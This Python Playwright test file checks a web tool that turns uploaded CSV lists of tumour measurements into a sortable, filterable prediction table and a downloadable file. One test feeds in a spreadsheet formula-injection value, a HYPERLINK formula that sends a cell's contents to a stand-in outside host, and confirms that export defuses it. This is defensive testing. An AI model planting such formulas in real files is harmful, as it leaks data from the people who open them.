"""A list of rows: dropped, chosen or pasted; a table that sorts; a file that a spreadsheet may open."""

import csv
import io
import re

import pytest
from playwright.async_api import expect

from tests.page.desk import Desk
from tests.page.visitor import PHONE

pytestmark = pytest.mark.whole

NONE = "\N{EN DASH}"
FORMULA = '=HYPERLINK("http://elsewhere.example/"&A1)'


@pytest.fixture
def patients(models):
    """Rows as in a hospital's file: an identifier first, which is no feature."""
    return [
        {"patient": f"P{number:02}", **models.record(label, number)}
        for number in range(4)
        for label in ("malignant", "benign")
    ]


def csv_of(rows, **dialect):
    text = io.StringIO()
    writer = csv.DictWriter(text, list(rows[0]), **dialect)
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue()


async def answers(site, rows):
    """What the service itself says of each."""
    records = [{name: value for name, value in row.items() if name != "patient"} for row in rows]
    answer = await site.live.client.post("/predict/batch", json={"instances": records})
    return answer.json()["predictions"]


@pytest.mark.parametrize("brought", ["dropped", "chosen", "pasted"])
async def test_a_list_becomes_a_table(site, desk, patients, brought):
    """Each row with its identifier and the service's own answer; the version is said."""
    text = csv_of(patients)
    if brought == "dropped":
        await desk.drop("ward.csv", text)
    elif brought == "chosen":
        await desk.choose("ward.csv", text)
    else:
        await desk.paste(csv_of(patients, delimiter="\t"), "mean_radius")
    await expect(desk.table.locator("tbody tr")).to_have_count(len(patients))
    expected = await answers(site, patients)
    assert list(await desk.column("Prediction")) == [each["prediction"] for each in expected]
    assert list(await desk.column("patient")) == [row["patient"] for row in patients]
    above = sum(each["operating_point"]["above"] for each in expected)
    await expect(desk.table).to_contain_text("version 7")
    await expect(desk.table).to_contain_text(f"{above} at or above the threshold")


async def test_the_table_sorts_by_a_column_both_ways(site, desk, patients):
    """By the probability itself, and not by what is written of it."""
    await desk.drop("ward.csv", csv_of(patients))
    chance = desk.table.locator("thead th", has_text="Probability of")
    title = (await chance.inner_text()).strip()
    label = title.removeprefix("Probability of ")
    likely = [each["probabilities"][label] for each in await answers(site, patients)]
    order = sorted(range(len(patients)), key=likely.__getitem__)
    for sort in ("ascending", "descending"):
        await chance.get_by_role("button").click()
        await expect(chance).to_have_attribute("aria-sort", sort)
        rows = [int(row) - 1 for row in await desk.column("Row")]
        assert rows == (order if sort == "ascending" else order[::-1])
        await expect(chance.get_by_role("button")).to_be_focused()


async def test_the_file_has_every_measurement_and_answer_and_no_formula(site, desk, patients):
    """What a spreadsheet would take for a formula came from the user's file, and is made a text."""
    patients[0]["patient"], patients[1]["patient"] = FORMULA, "@SUM(1)"
    await desk.drop("ward.csv", csv_of(patients))
    await expect(desk.table.locator("tbody tr")).to_have_count(len(patients))
    found = list(csv.DictReader(io.StringIO(await desk.download())))
    for row, patient, answer in zip(found, patients, await answers(site, patients), strict=True):
        assert row["prediction"] == answer["prediction"]
        assert row["model_version"] == "7"
        for label, probability in answer["probabilities"].items():
            assert float(row[f"probability_{label}"]) == pytest.approx(probability)
        assert float(row["mean_radius"]) == patient["mean_radius"]
    assert [row["patient"] for row in found[:3]] == [f"'{FORMULA}", "'@SUM(1)", "P01"]
    assert not [cell for row in found for cell in row.values() if cell[:1] in ("=", "@", "+")]


async def test_a_row_that_cannot_be_answered_is_named_and_the_others_are_answered(desk, patients):
    """And a row of which training saw nothing like is marked."""
    patients[2]["mean_radius"] = "n/a"
    patients[4]["worst_area"] = 99999.0
    await desk.drop("ward.csv", csv_of(patients))
    remarks = desk.table.locator("tbody tr .remarks")
    await expect(remarks.nth(2)).to_contain_text("Not answered. Mean radius")
    await expect(remarks.nth(4)).to_contain_text("Worst area")
    predictions = await desk.column("Prediction")
    assert [place for place, each in enumerate(predictions) if each == NONE] == [2]


async def test_a_row_of_the_table_opens_in_the_form(desk, patients):
    await desk.drop("ward.csv", csv_of(patients))
    await desk.button("Open row 4").click()
    await expect(desk.field("mean_radius")).to_have_value(str(patients[3]["mean_radius"]))
    await expect(desk.prediction).to_have_text("benign")


async def test_a_long_list_is_shown_in_pages_and_downloaded_whole(desk, models):
    rows = [dict(row) for _, row in models.rows.iterrows()]
    await desk.drop("all.csv", csv_of(rows))
    await expect(desk.table.locator("tbody tr")).to_have_count(50)
    await desk.button("Next").click()
    await expect(desk.table).to_contain_text(f"Rows 51 to 100 of {len(rows)}")
    assert len(list(csv.DictReader(io.StringIO(await desk.download())))) == len(rows)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("a,b\n1,2\n", "A row needs 30 values"),
        ("mean_radius\n1\n", "Missing columns: "),
        ("", "has no row"),
    ],
)
async def test_a_file_that_is_no_list_is_refused_with_the_reason(desk, text, said):
    await desk.drop("else.csv", text)
    await expect(desk.page.get_by_text(said)).to_be_visible()
    await expect(desk.table).to_be_hidden()


async def test_columns_whose_heads_do_not_match_are_assigned_by_hand(desk, models):
    """Those that match are chosen already; the rest stay beside their rows."""
    record = models.record(number=2)
    rows = [{"case": "C1", **record}, {"case": "C2", **models.benign}]
    text = csv_of(rows).replace("mean_area", "Flaeche", 1)
    await desk.drop("ward.csv", text)
    await expect(desk.page.get_by_text("Missing columns: mean_area")).to_be_visible()
    panel = desk.page.get_by_role("region", name="Which column is which value?")
    await expect(panel.get_by_label("Mean radius")).to_have_value("1")
    await expect(panel.get_by_label("Mean area")).to_be_focused()
    await panel.get_by_label("Mean area").select_option("Flaeche")
    await panel.get_by_role("button", name="Use these columns").press("Enter")
    await expect(panel).to_be_hidden()
    assert list(await desk.column("Prediction")) == ["malignant", "benign"]
    assert list(await desk.column("case")) == ["C1", "C2"]


async def test_heads_that_name_nothing_are_no_row_of_values(desk, models):
    """As many columns as the model has, in its order: each is proposed where it stands."""
    heads = ";".join(f"Spalte{place}" for place in range(30))
    values = ";".join(str(value).replace(".", ",") for value in models.benign.values())
    await desk.drop("ward.csv", f"{heads}\n{values}\n")
    panel = desk.page.get_by_role("region", name="Which column is which value?")
    await expect(panel.get_by_label("Worst fractal dimension")).to_have_value("29")
    await panel.get_by_role("button", name="Use these columns").click()
    await expect(desk.field("mean_radius")).to_have_value(str(models.benign["mean_radius"]))


async def test_a_cell_is_mended_in_place(site, desk, patients):
    """Its row is asked again, and no other."""
    patients[2]["mean_radius"] = "n/a"
    await desk.drop("ward.csv", csv_of(patients))
    await expect(desk.table).to_contain_text("1 not answered")
    field = desk.table.get_by_label("Mean radius of row 3")
    async with desk.page.expect_request("**/predict/batch*") as asked:
        await field.fill("17.5")
        await field.press("Enter")
    assert len((await asked.value).post_data_json["instances"]) == 1
    await expect(desk.table).not_to_contain_text("not answered")
    patients[2]["mean_radius"] = 17.5
    expected = await answers(site, patients)
    assert list(await desk.column("Prediction")) == [each["prediction"] for each in expected]
    await expect(desk.button("Open row 3")).to_be_focused()
    (row,) = [
        each for each in csv.DictReader(io.StringIO(await desk.download())) if each["row"] == "3"
    ]
    assert row["mean_radius"] == "17.5"


async def test_the_table_is_filtered_by_any_text_of_a_row(desk, patients):
    await desk.drop("ward.csv", csv_of(patients))
    search = desk.table.get_by_label("Filter")
    await search.fill("malig")
    await expect(desk.table.locator("tbody tr")).to_have_count(4)
    await expect(desk.table).to_contain_text("4 of 8 rows")
    await expect(search).to_be_focused()
    await search.fill("p03")
    await expect(desk.table.locator("tbody tr")).to_have_count(2)
    assert len(list(csv.DictReader(io.StringIO(await desk.download())))) == len(patients)


async def test_on_a_phone_the_probability_is_in_view(site, visit, patients):
    desk = Desk(await visit(site.url, **PHONE))
    await desk.is_in_state("ready")
    await desk.drop("ward.csv", csv_of(patients))
    below = desk.table.locator("tbody .below").first
    await expect(below).to_have_text(re.compile(r"\d\s%"))
    box = await below.bounding_box()
    assert 0 <= box["x"] < box["x"] + box["width"] <= 390


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "windows-1252", "utf-16"])
async def test_a_german_file_of_excel_is_read_and_written(site, visit, patients, encoding):
    """Semicolons and decimal commas, units in the heads, and umlauts in whichever encoding."""
    desk = Desk(await visit(site.url, locale="de-DE"))
    await desk.is_in_state("ready")
    patients[0]["patient"] = "M\u00fcller"
    text = (
        csv_of(patients, delimiter=";")
        .replace(".", ",")
        .replace("worst_texture", "Worst texture [gray levels]")
    )
    file = {"name": "ward.csv", "mimeType": "text/csv", "buffer": text.encode(encoding)}
    await desk.page.locator("#file").set_input_files(file)
    table = desk.page.locator("#predictions")
    await expect(table.locator("tbody tr")).to_have_count(len(patients))
    await expect(table).to_contain_text("M\u00fcller")
    async with desk.page.expect_download() as download:
        await table.get_by_role("button", name="CSV herunterladen").click()
    written = (await (await download.value).path()).read_text(encoding="utf-8-sig")
    found = list(csv.DictReader(io.StringIO(written), delimiter=";"))
    for row, patient, answer in zip(found, patients, await answers(site, patients), strict=True):
        assert float(row["mean_radius"].replace(",", ".")) == patient["mean_radius"]
        assert (
            float(row["worst_texture [gray levels]"].replace(",", ".")) == patient["worst_texture"]
        )
        for label, probability in answer["probabilities"].items():
            assert float(row[f"probability_{label}"].replace(",", ".")) == pytest.approx(
                probability
            )
    assert "." not in found[0]["mean_radius"]
